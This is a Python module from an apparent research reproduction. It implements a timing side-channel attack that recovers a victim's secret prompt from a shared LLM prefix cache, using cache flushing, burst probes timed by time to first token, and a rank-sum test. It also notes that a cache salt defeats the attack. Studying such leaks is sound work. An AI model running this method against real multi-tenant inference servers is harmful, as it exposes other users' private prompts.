"""The prefix probe with a stopwatch only: the secret from time to first token, no `cached_tokens`.

The attack of prefix_probe.py needs an oracle that says which guess the cache already holds.
Here the attacker reads nothing but each response's time to first token (`ttft_s`, what any
client measures). A hit skips the guessed tokens' prefill, so it is faster, but at 1-token pages
by one token of compute only: far below a busy CPU's noise. Three things make it measurable:

1. **A burst** amplifies one guess: `burst` probes `known + guess + tail_j` sent together are
   prefilled in the same step (they fit `max_prefill_tokens` and the batch, so none can hit
   another's freshly cached pages). On a hit each prefills its tail only; on a miss the guess too:
   the burst saves `burst` tokens of compute. Its time is the median `ttft_s` of its probes.
2. **Fresh samples by cycles.** A guess can be timed only once: the probe caches its own guess,
   so a second probe of a wrong guess would hit the attacker's own page. One cycle: the attacker
   flushes the cache (random filler prompts, more tokens than the pool holds: parked pages go
   least recently used first, her own probes with them), the victim's application sends its
   prompt again (`refresh`), and the attacker times one burst per guess, in a random order.
   *Our reproduction's model*: a victim whose app re-sends the same prompt (a system prompt, a
   saved note) again and again, and an attacker free to flush a cache she shares with it.
3. **A rank test decides** (Gu et al., ICML 2025, decide whether a cache is shared with a
   two-sample test on many samples; ours compares one guess with the others within each cycle):
   after each cycle from `min_cycles` on, the bursts of every cycle are ranked, fastest first,
   and the guess with the lowest rank sum is tested against chance (with no hit, each cycle
   ranks it anywhere with equal odds). Ranks within a cycle shrug off a machine that gets busier
   between cycles and a burst stalled by another process. A hit is accepted only below `alpha`
   over (guesses x looks) (Bonferroni); after `max_cycles` without one the answer is "no hit",
   and the attack stops rather than guess. With `cache_salt` nothing is ever faster, so it
   recovers nothing.

Everything goes through the front door (`submit`, `run`), so it runs on Engine and Cluster alike.
"""

from __future__ import annotations

import os
import random
import statistics
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field

import numpy as np

from minikv.attacks.cached_tokens import (
    ATTACKER,
    VICTIM,
    Oracle,
    ProbeOutcome,
    Server,
    random_letters_prompt,
    recover_secret,
    send_probes,
    victim_prompt,
    victim_saves,
)
from minikv.engine.request import Request
from minikv.engine.request import Response
from minikv.attacks.workload import SECRET_ALPHABET

DIGITS = "0123456789"
ALPHABETS = {"full": SECRET_ALPHABET, "digits": DIGITS}  # what the attacker assumes the secret is made of
TAILS = SECRET_ALPHABET  # the last token of a burst's probes, in turn: 65 different ones, then again


@dataclass
class TimingLedger:
    """What the timing attack spent and saw: requests by kind, cycles, and every burst's time."""

    probes: int = 0  # requests carrying a guess
    filler: int = 0  # flush requests
    warmups: int = 0  # one request per cycle with what the attacker already knows
    cycles: int = 0
    rounds: list[dict[str, list[float]]] = field(default_factory=list)  # per round: guess -> burst times (s)
    last: Response | None = None  # the last probe's answer

    @property
    def requests(self) -> int:
        return self.probes + self.filler + self.warmups


def burst_prompts(prefix: str, burst: int) -> list[str]:
    """`burst` probes that agree on `prefix` and end in one more token (65 different ones, then again)."""
    return [prefix + TAILS[j % len(TAILS)] for j in range(burst)]


def time_burst(server: Server, prompts: list[str], tenant: str = ATTACKER,
               ledger: TimingLedger | None = None) -> float:
    """Send `prompts` at once (one output token each); the median of their times to first token."""
    answers = send_probes(server, prompts, tenant)
    if ledger is not None:
        ledger.last = answers[-1]
    return statistics.median(r.ttft_s for r in answers)


def flush_cache(server: Server, rng: random.Random, tokens: int, prompt_chars: int = 900, tenant: str = ATTACKER) -> int:
    """Send `tokens` characters of random filler, `prompt_chars` per prompt; the prompts sent.

    More than the pool holds evicts every parked page (least recently used first)."""
    sizes = [prompt_chars] * (tokens // prompt_chars) + ([tokens % prompt_chars] if tokens % prompt_chars > 1 else [])
    for chars in sizes:
        server.submit(Request(random_letters_prompt(rng, chars), tenant, max_tokens=1))
    server.run()
    return len(sizes)


def ranks_within_cycles(samples: Sequence[Sequence[float]]) -> list[list[int]]:
    """ranks[g][i]: guess g's place in cycle i, 1 for the fastest burst of that cycle."""
    k, n = len(samples), len(samples[0])
    ranks = [[0] * n for _ in range(k)]
    for i in range(n):
        for place, g in enumerate(sorted(range(k), key=lambda g: samples[g][i]), start=1):
            ranks[g][i] = place
    return ranks


def rank_sum_p_value(rank_sum: int, cycles: int, guesses: int) -> float:
    """P(a guess's ranks over `cycles` cycles add up to at most `rank_sum`) when no guess is
    faster: each cycle then ranks it 1..guesses with equal chance, independently."""
    one = np.full(guesses, 1.0 / guesses)  # P(rank = 1..guesses) in one cycle
    total = np.ones(1)
    for _ in range(cycles):
        total = np.convolve(total, one)  # total[j] = P(sum of ranks so far = cycles so far + j)
    return float(total[: rank_sum - cycles + 1].sum())


def fastest_if_significant(samples: Sequence[Sequence[float]], alpha: float) -> tuple[int | None, float]:
    """(index of the guess that is faster than the others, or None; its p-value).

    samples[g][i]: guess g's burst time in cycle i. Within each cycle the bursts are ranked, so
    a cycle that ran slow as a whole, or one stalled burst, moves ranks, not the scale. The guess
    with the lowest rank sum is compared with the others (one-sided: is it ranked first more
    often than chance?) by the exact null distribution, and accepted if p < alpha / guesses.
    """
    k, n = len(samples), len(samples[0])
    assert k >= 2 and all(len(s) == n for s in samples), "every guess needs one time per cycle"
    sums = [sum(r) for r in ranks_within_cycles(samples)]
    best = min(range(k), key=sums.__getitem__)
    p = rank_sum_p_value(sums[best], n, k)
    return (best if p < alpha / k else None), p


def timing_oracle(server: Server, refresh: Callable[[], None], rng: random.Random, flush_tokens: int,
                  burst: int = 64, min_cycles: int = 5, max_cycles: int = 24, alpha: float = 0.001,
                  ledger: TimingLedger | None = None, tenant: str = ATTACKER) -> Oracle:
    """An `Oracle` (as `cached_tokens_oracle`) answered from times to first token alone.

    `refresh()` is the victim's application sending its prompt again; `flush_tokens` must exceed
    the prefix cache's size in tokens. At most one answer is True: the guess the test accepted.
    """
    ledger = ledger if ledger is not None else TimingLedger()
    assert 1 <= min_cycles <= max_cycles and burst >= 1, "bad timing plan"
    looks = max_cycles - min_cycles + 1  # the test is run once per cycle from min_cycles on

    def ask(prompts: list[str], hit_at: int) -> list[bool]:
        stems = [p[:hit_at] for p in prompts]  # known + guess, up to the page boundary the hit needs
        known = os.path.commonprefix(stems)  # what she already knows
        best: int | None = None
        times: list[list[float]] = [[] for _ in stems]
        for cycle in range(max_cycles):
            ledger.filler += flush_cache(server, rng, flush_tokens, tenant=tenant)
            refresh()
            time_burst(server, [known + TAILS[0]], tenant)  # what she knows is cached for her too
            ledger.warmups += 1
            for g in rng.sample(range(len(stems)), len(stems)):
                times[g].append(time_burst(server, burst_prompts(stems[g], burst), tenant, ledger))
                ledger.probes += burst
            ledger.cycles += 1
            if cycle + 1 >= min_cycles:
                best, _ = fastest_if_significant(times, alpha / looks)
                if best is not None:
                    break
        ledger.rounds.append({s[len(known):]: t for s, t in zip(stems, times)})
        return [g == best for g in range(len(stems))]

    return ask


def timing_attack(server: Server, secret: str, page_size: int, flush_tokens: int, alphabet: str = SECRET_ALPHABET,
                  rng: random.Random | None = None, ledger: TimingLedger | None = None,
                  **plan: float) -> ProbeOutcome:
    """Alice saves `secret`, and her app sends the same prompt again at every cycle; mallory
    recovers it from times to first token alone (`plan`: timing_oracle's burst, cycles, alpha)."""
    victim = victim_saves(server, secret)
    prompt = victim_prompt(secret)

    def refresh() -> None:  # the victim's application sends its prompt again (our model: see above)
        server.submit(Request(prompt, VICTIM, max_tokens=1))
        server.run()

    ledger, start = ledger if ledger is not None else TimingLedger(), time.perf_counter()
    oracle = timing_oracle(server, refresh, rng or random.Random(0), flush_tokens, ledger=ledger, **plan)
    recovered, _ = recover_secret(oracle, page_size, alphabet=alphabet)
    return ProbeOutcome(victim, ledger.last, recovered, ledger.requests, time.perf_counter() - start, ledger.cycles)
